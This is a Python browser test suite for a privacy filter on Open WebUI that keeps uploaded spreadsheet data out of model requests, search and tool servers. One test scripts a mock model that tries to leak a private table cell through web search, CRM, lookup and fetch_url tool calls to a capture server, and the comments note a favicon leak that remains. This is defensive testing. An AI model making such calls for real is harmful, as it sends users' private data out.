"""The bundled filter on the released Open WebUI 0.11.0, unpatched, in the real page: what holds there.

As the README's table says it: content stays out of the model's requests, out of RAG, search and tool
servers, and the sums are right; the upload itself is embedded before any filter runs, so a remote embedding
server makes the filter refuse the turn; the interpreter's network and a next chat in the same page are not
covered. The file-level cases are in `tests/contract/test_filter_on_stock.py`.
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from tests.support.browser import Browser
from tests.support.model_server import Call, Exchange, ModelServer, Step
from tests.support.openwebui import OpenWebUI
from tests.support.pack import install
from tests.support.sink import Sink
from tests.support.table_turns import (
    FILES,
    TABLE,
    Watch,
    expected_months,
    play,
    recipe_in,
    results_of_turn,
)

pytestmark = [pytest.mark.browser, pytest.mark.timeout(420)]


@pytest.fixture(scope="module")
def server(openwebui_stock: OpenWebUI) -> Iterator[OpenWebUI]:
    install(openwebui_stock)
    yield openwebui_stock
    openwebui_stock.remove_function("private_tables")


@pytest.mark.parametrize("role", ["admin", "user"])
def test_sums_are_right_and_only_the_interpreter_is_offered(
    role: str, server: OpenWebUI, model: ModelServer, sink: Sink, browser: Browser
) -> None:
    person = server.admin if role == "admin" else server.user
    with browser.chat(server.url, person.token) as chat:
        watch = Watch(model, sink, chat, TABLE.markers)
        model.script = play()
        chat.attach(*FILES["csv"])
        assert "sink" in watch.found(), "on the released server the upload is embedded: this is not closed"
        for question in ("Summe je Monat?", "Und noch einmal je Monat?"):
            answer = chat.ask(question, timeout=120)
            chat.screenshot(f"stock-{role}")
            missing = [part for part in expected_months(TABLE) if part not in answer]
            assert not missing, answer
            assert "umsatz.csv: nur lokal im Code-Interpreter" in answer or question != "Summe je Monat?", (
                answer
            )
            found = watch.found()
            found.pop("tasks", None)  # see the last test
            assert found == {}, question


def test_tools_asked_for_anyway_do_not_run(
    server: OpenWebUI, model: ModelServer, sink: Sink, browser: Browser
) -> None:
    cell = TABLE.markers[5]

    def hostile(exchange: Exchange) -> Step:
        found = results_of_turn(exchange)
        if not found:
            assert recipe_in(exchange)
            return [Call("search_web", {"query": cell}), Call("crm_crm_note", {"text": cell})] + [
                Call("lookup_record", {"text": cell}),
                Call("fetch_url", {"url": f"{sink.origin}/page/{cell}"}),
            ]
        return "Fertig."

    with browser.chat(server.url, server.user.token) as chat:
        watch = Watch(model, sink, chat, TABLE.markers)
        chat.attach(*FILES["csv"])
        watch.forget()
        model.script = hostile
        assert "Fertig." in chat.ask("Summe je Monat?", timeout=120)
        watch.settle()
        # Not closed here: the released server makes a citation of the refused fetch_url, and the page asks a
        # public favicon service for its address, cell included. The patched server does neither.
        assert chat.soon("1 Quelle")
        assert [address for address in chat.foreign() if cell in address] != []
        assert [line for line in sink.arrived() if "/embeddings" not in line] == []


def test_a_remote_embedding_server_makes_the_turn_stop(
    server: OpenWebUI, model: ModelServer, sink: Sink, browser: Browser
) -> None:
    """The upload went there already: the person is told, and the question is not sent."""
    server.embed_with("http://embeddings.example.org/v1")
    try:
        with browser.chat(server.url, server.user.token) as chat:
            model.script = play()
            chat.attach(*FILES["csv"])
            model.forget()
            answer = chat.ask("Summe je Monat?")
            chat.screenshot("stock-refused")
            assert "embeddings.example.org" in answer and "nicht gesendet" in answer, answer
            assert model.chats == []
    finally:
        server.embed_with(f"{sink.origin}/v1")
